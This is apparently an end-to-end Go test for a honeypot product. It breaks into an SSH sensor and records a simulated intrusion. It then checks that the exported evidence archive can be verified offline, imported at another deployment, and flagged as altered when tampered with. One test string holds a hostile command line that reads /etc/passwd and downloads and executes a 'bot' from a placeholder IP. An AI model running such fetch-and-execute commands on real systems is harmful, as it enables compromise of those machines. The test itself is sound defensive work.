package e2e

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"honeyguide"
	"honeyguide/test/rig"
)

// TestEvidence breaks in over ssh, collects the incident, checks the archive on
// a machine that has nothing but the program and the public key, and takes it in
// at another deployment.
func TestEvidence(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the whole product; -short leaves it out")
	}
	data := t.TempDir()
	core := rig.Start(t, data, fast...)
	addr := core.Sensor("ssh")
	user, password := breakIn(t, addr)
	ssh(t, addr, user, password, "", "uname -a; cat /etc/passwd; wget http://198.51.100.77/bot -O /tmp/bot; chmod +x /tmp/bot; /tmp/bot")
	var incident honeyguide.Incident
	rig.Eventually(t, 30*time.Second, "an incident", func() bool {
		all, err := rig.List[honeyguide.Incident](core, "/api/v1/incidents")
		if err != nil || len(all) == 0 || len(all[0].Sessions) == 0 {
			return false
		}
		incident = all[0]
		return true
	})
	if _, errs, status := rig.CLI(t, data, nil, "holds", "place", "incident:"+incident.Short, "--reason", "order 12"); status != 0 {
		t.Fatalf("hold: %d %s", status, errs)
	}
	file := filepath.Join(t.TempDir(), "evidence.zip")
	if _, errs, status := rig.CLI(t, data, nil, "evidence", "export", incident.Short, "--out", file, "--reason", "order 12"); status != 0 {
		t.Fatalf("export: %d %s", status, errs)
	}
	alone := t.TempDir()
	for from, to := range map[string]string{file: "evidence.zip", filepath.Join(data, "keys", "audit.pub"): "audit.pub"} {
		text, err := os.ReadFile(from)
		if err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(alone, to), text, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	check := func() (string, error) {
		cmd := exec.Command(rig.Binary(t), "evidence", "verify", "evidence.zip", "--key", "./audit.pub", "-o", "table")
		cmd.Dir, cmd.Env = alone, []string{"HOME=" + alone}
		out, err := cmd.CombinedOutput()
		return string(out), err
	}
	if out, err := check(); err != nil || !strings.Contains(out, "nothing was changed") {
		t.Fatalf("verify elsewhere: %v\n%s", err, out)
	}
	other := t.TempDir()
	if out, errs, status := rig.CLI(t, other, nil, "evidence", "import", file, "--key", filepath.Join(data, "keys", "audit.pub"), "--reason", "handed over"); status != 0 || !strings.Contains(out, "E-1") {
		t.Fatalf("import: %d %s %s", status, out, errs)
	}
	if out, errs, status := rig.CLI(t, other, nil, "evidence", "view", "E-1", "events.jsonl"); status != 0 || !strings.Contains(out, "198.51.100.77") {
		t.Errorf("view: %d %.500s %s", status, out, errs)
	}
	text, err := os.ReadFile(filepath.Join(alone, "evidence.zip"))
	if err != nil {
		t.Fatal(err)
	}
	text = bytes.Replace(text, []byte("198.51.100.77"), []byte("198.51.100.78"), 1)
	if err := os.WriteFile(filepath.Join(alone, "evidence.zip"), text, 0o600); err != nil {
		t.Fatal(err)
	}
	if out, err := check(); err == nil || !strings.Contains(out, "ALTERED") {
		t.Errorf("changed evidence: %v\n%s", err, out)
	}
}
